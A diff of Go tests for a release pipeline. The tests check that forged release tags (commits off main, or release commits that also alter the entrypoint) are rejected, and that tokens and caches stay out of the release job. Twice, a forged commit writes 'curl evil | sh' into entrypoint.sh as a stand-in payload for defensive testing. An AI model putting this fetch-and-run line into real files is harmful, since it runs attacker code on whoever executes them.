@@ -219,6 +219,18 @@ func TestRelease_GuardTellsAReRunFromANewRelease(t *testing.T) {
 		t.Errorf("re-run: exit %d, want released=true commit=%s digest=%s\n%s", code, release, digestA, out)
 	}
 
+	// A release commit that changes more than the pin scripts make (here the entrypoint) is no
+	// release, whatever its subjects say.
+	git("checkout", "-q", "--detach", tagged)
+	forgedTip := makeRelease(t, dir, tagged, "v1.2.3-forged", digestA, "entrypoint.sh", "curl evil | sh\n")
+	git("tag", "-f", "-a", "v1.2.3", "-m", "v1.2.3", forgedTip)
+	git("push", "-q", "-f", "origin", "refs/tags/v1.2.3")
+	if code, _, out := released("v1.2.3", tagged); code != 1 {
+		t.Errorf("a forged release: exit %d, want 1\n%s", code, out)
+	}
+	git("tag", "-f", "-a", "v1.2.3", "-m", "v1.2.3", release)
+	git("push", "-q", "-f", "origin", "refs/tags/v1.2.3")
+
 	// A release whose workflows commit names other actions than its parent is no release of this run.
 	git("checkout", "-q", "--detach", release)
 	git("commit", "-q", "--allow-empty", "-m", "release v1.2.3: the workflows use the actions of "+tagged)
@@ -310,6 +322,23 @@ func TestRelease_PushImagePushesOnlyTheTestedImage(t *testing.T) {
 	}
 	if code, _ := script(t, dir, "push-image", repo+"@"+digest, tested); code != 2 {
 		t.Errorf("a reference without a tag: exit %d, want 2", code)
+	}
+
+	// publish.yml hands the tested image from its build job to its release job with docker save by
+	// ID and docker load: it arrives untagged, and is pushed all the same.
+	tar := filepath.Join(t.TempDir(), "image.tar")
+	if out, err := exec.Command("docker", "save", "-o", tar, tested).CombinedOutput(); err != nil {
+		t.Fatalf("docker save: %v\n%s", err, out)
+	}
+	if out, err := exec.Command("docker", "rmi", "-f", ref).CombinedOutput(); err != nil {
+		t.Fatalf("docker rmi: %v\n%s", err, out)
+	}
+	if out, err := exec.Command("docker", "load", "-q", "-i", tar).CombinedOutput(); err != nil {
+		t.Fatalf("docker load: %v\n%s", err, out)
+	}
+	ref2 := repo + ":1.2.4"
+	if code, out := script(t, dir, "push-image", ref2, tested); code != 0 || !strings.Contains(out, "digest="+digest) {
+		t.Errorf("the loaded, untagged image: exit %d, want it pushed as %s\n%s", code, digest, out)
 	}
 }
 
@@ -429,20 +458,34 @@ func TestRelease_PublishSplitsTestingFromPushing(t *testing.T) {
 		if strings.HasPrefix(s.Uses, "actions/checkout@") && s.With["persist-credentials"] != false {
 			t.Errorf("release: step %d checks out with persisted credentials", i)
 		}
+		// No Go cache the build job could have written is compiled into a job holding write tokens.
+		if strings.HasPrefix(s.Uses, "actions/setup-go@") && s.With["cache"] != false {
+			t.Errorf("release: step %d restores the Go cache", i)
+		}
+		// The token is in the environment of the tag's push alone.
+		if _, ok := s.Env["GH_TOKEN"]; ok && !strings.Contains(s.Run, "push --force-with-lease") {
+			t.Errorf("release: step %d has the token but does not push the tag:\n%s", i, s.Run)
+		}
 	}
-	tag := find("release", "push --force-with-lease")
-	if tag < push {
-		t.Fatalf("release: the tag moves at step %d, before the push (%d)", tag, push)
+	if logout := find("release", "docker logout"); logout != push+1 {
+		t.Errorf("release: docker logout at step %d, want right after the push (%d)", logout, push)
 	}
-	run := rel.Steps[tag].Run
+	commits, tag := find("release", ".ci/pin-workflows"), find("release", "push --force-with-lease")
+	if commits < push || tag < commits {
+		t.Fatalf("release: commits at step %d, tag at %d, push at %d: want push, commits, tag", commits, tag, push)
+	}
+	run := rel.Steps[commits].Run
 	for _, want := range []string{`git commit -q -am "release $TAG: the actions run `, `.ci/pin-workflows "$actions"`,
-		`git commit -q -am "release $TAG: the workflows use the actions of $actions"`, `--force-with-lease="refs/tags/$TAG:$LEASE"`} {
+		`git commit -q -am "release $TAG: the workflows use the actions of $actions"`} {
 		if !strings.Contains(run, want) {
-			t.Errorf("release: the tag step does not %q:\n%s", want, run)
+			t.Errorf("release: the commits step does not %q:\n%s", want, run)
 		}
 	}
 	if strings.Index(run, ".ci/pin-image") > strings.Index(run, ".ci/pin-workflows") {
 		t.Errorf("release: the workflows are pinned before the actions' commit exists")
+	}
+	if !strings.Contains(rel.Steps[tag].Run, `--force-with-lease="refs/tags/$TAG:$LEASE"`) {
+		t.Errorf("release: the tag's push is not leased:\n%s", rel.Steps[tag].Run)
 	}
 	// major: one at a time across tags, after release, leased.
 	m := wf.Jobs["major"]
@@ -527,24 +570,54 @@ func TestRelease_PinnedWorkflowsNameNoMovingRef(t *testing.T) {
 	}
 }
 
+// makeRelease makes TAG as publish.yml does, on top of base (a commit of dir's repository, a releaseTree):
+// the commit pinning the image, the one pinning the workflows to it, the tag on the second. extra, when
+// given, is a file the forger slips into the first. It returns the tagged commit.
+func makeRelease(t *testing.T, dir, base, tag, digest string, extra ...string) string {
+	t.Helper()
+	git := func(args ...string) string { return gitIn(t, dir, args...) }
+	git("checkout", "-q", "--detach", base)
+	if code, out := script(t, dir, "pin-image", "ghcr.io/slipway-actions/slipway@"+digest); code != 0 {
+		t.Fatalf("pin-image: exit %d\n%s", code, out)
+	}
+	for i := 0; i+1 < len(extra); i += 2 {
+		if err := os.WriteFile(filepath.Join(dir, extra[i]), []byte(extra[i+1]), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		git("add", extra[i])
+	}
+	git("commit", "-q", "-am", "release "+tag+": the actions run ghcr.io/slipway-actions/slipway@"+digest)
+	actions := git("rev-parse", "HEAD")
+	if code, out := script(t, dir, "pin-workflows", actions); code != 0 {
+		t.Fatalf("pin-workflows: exit %d\n%s", code, out)
+	}
+	git("commit", "-q", "-am", "release "+tag+": the workflows use the actions of "+actions)
+	git("tag", "-a", tag, "-m", tag)
+	return git("rev-parse", "HEAD")
+}
+
 // Two publishes finishing together end with the major tag on the higher release, whichever moves it
 // last: each moves it to the highest release there is, leased on what it read. The older release's
-// publish finishing last (the old bug: it moved the major back) leaves it where it is.
+// publish finishing last (the old bug: it moved the major back) leaves it where it is. Only what
+// .ci/release-of proves a release of main counts: a forged release tag (a commit off main, or a
+// release commit that changes more than the pin scripts) never gets the major.
 func TestRelease_ConcurrentPublishesEndWithTheMajorOnTheHigherRelease(t *testing.T) {
 	t.Parallel()
-	setup := func() (origin string, commits map[string]string) {
+	setup := func(tags ...string) (origin string, commits map[string]string) {
 		origin = filepath.Join(t.TempDir(), "origin.git")
 		gitIn(t, ".", "init", "-q", "--bare", origin)
-		seed := t.TempDir()
+		seed := releaseTree(t)
 		gitIn(t, seed, "init", "-q", "-b", "main")
 		gitIn(t, seed, "remote", "add", "origin", origin)
+		gitIn(t, seed, "add", ".")
+		gitIn(t, seed, "commit", "-q", "-m", "main")
 		commits = map[string]string{}
-		for _, tag := range []string{"v1.1.0", "v1.2.0", "v1.3.0"} {
-			gitIn(t, seed, "commit", "-q", "--allow-empty", "-m", "release "+tag+": the workflows use the actions of x")
-			gitIn(t, seed, "tag", "-a", tag, "-m", tag)
-			commits[tag] = gitIn(t, seed, "rev-parse", "HEAD")
+		for _, tag := range tags {
+			gitIn(t, seed, "checkout", "-q", "main")
+			gitIn(t, seed, "commit", "-q", "--allow-empty", "-m", "work for "+tag)
+			commits[tag] = makeRelease(t, seed, gitIn(t, seed, "rev-parse", "main"), tag, digestA)
 		}
-		gitIn(t, seed, "tag", "v1", commits["v1.1.0"])
+		gitIn(t, seed, "tag", "v1", commits[tags[0]])
 		gitIn(t, seed, "push", "-q", "origin", "main", "--tags")
 		return origin, commits
 	}
@@ -553,11 +626,11 @@ func TestRelease_ConcurrentPublishesEndWithTheMajorOnTheHigherRelease(t *testing
 	}
 	clone := func(origin string) string {
 		dir := filepath.Join(t.TempDir(), "clone")
-		gitIn(t, ".", "clone", "-q", origin, dir)
+		gitIn(t, ".", "clone", "-q", "-b", "main", origin, dir)
 		return dir
 	}
 	// In order, newer first: the older one's publish finishing last leaves v1 on v1.3.0.
-	origin, commits := setup()
+	origin, commits := setup("v1.1.0", "v1.2.0", "v1.3.0")
 	for _, tag := range []string{"v1.3.0", "v1.2.0"} {
 		if code, out := script(t, clone(origin), "move-major", tag); code != 0 {
 			t.Fatalf("%s: move-major exit %d\n%s", tag, code, out)
@@ -566,10 +639,23 @@ func TestRelease_ConcurrentPublishesEndWithTheMajorOnTheHigherRelease(t *testing
 	if got := major(origin); got != commits["v1.3.0"] {
 		t.Errorf("after v1.3.0's then v1.2.0's publish, v1 names %s, want v1.3.0's commit %s", got, commits["v1.3.0"])
 	}
+
+	// Forged releases: v1.9.0 made from a commit that is not on main, v1.8.0 whose release commit also
+	// changes the entrypoint. Neither takes v1.
+	dir := clone(origin)
+	gitIn(t, dir, "checkout", "-q", "-b", "unreviewed")
+	gitIn(t, dir, "commit", "-q", "--allow-empty", "-m", "nobody looked")
+	makeRelease(t, dir, gitIn(t, dir, "rev-parse", "HEAD"), "v1.9.0", digestA)
+	makeRelease(t, dir, gitIn(t, dir, "rev-parse", "origin/main"), "v1.8.0", digestA, "entrypoint.sh", "curl evil | sh\n")
+	gitIn(t, dir, "push", "-q", "origin", "v1.9.0", "v1.8.0")
+	if code, out := script(t, clone(origin), "move-major", "v1.3.0"); code != 0 || major(origin) != commits["v1.3.0"] {
+		t.Errorf("forged releases: move-major exit %d, v1 names %s, want v1.3.0's %s\n%s", code, major(origin), commits["v1.3.0"], out)
+	}
+
 	// The race itself, made certain: v1.3.0's publish finishes between v1.2.0's reading of the tags
 	// and its push (a git on PATH plays it, once, just before the push). The lease refuses v1.2.0's
 	// push, which reads the tags again and leaves v1 on v1.3.0; an unleased push moved it back.
-	origin, commits = setup()
+	origin, commits = setup("v1.1.0", "v1.2.0", "v1.3.0")
 	gitIn(t, ".", "--git-dir", origin, "update-ref", "refs/pending/v1.3.0", "refs/tags/v1.3.0")
 	gitIn(t, ".", "--git-dir", origin, "update-ref", "-d", "refs/tags/v1.3.0")
 	real, err := exec.LookPath("git")
@@ -598,7 +684,7 @@ func TestRelease_ConcurrentPublishesEndWithTheMajorOnTheHigherRelease(t *testing
 	}
 	// At once, a few times over.
 	for round := range 3 {
-		origin, commits := setup()
+		origin, commits := setup("v1.1.0", "v1.2.0", "v1.3.0")
 		var wg sync.WaitGroup
 		for _, tag := range []string{"v1.2.0", "v1.3.0"} {
 			dir := clone(origin)
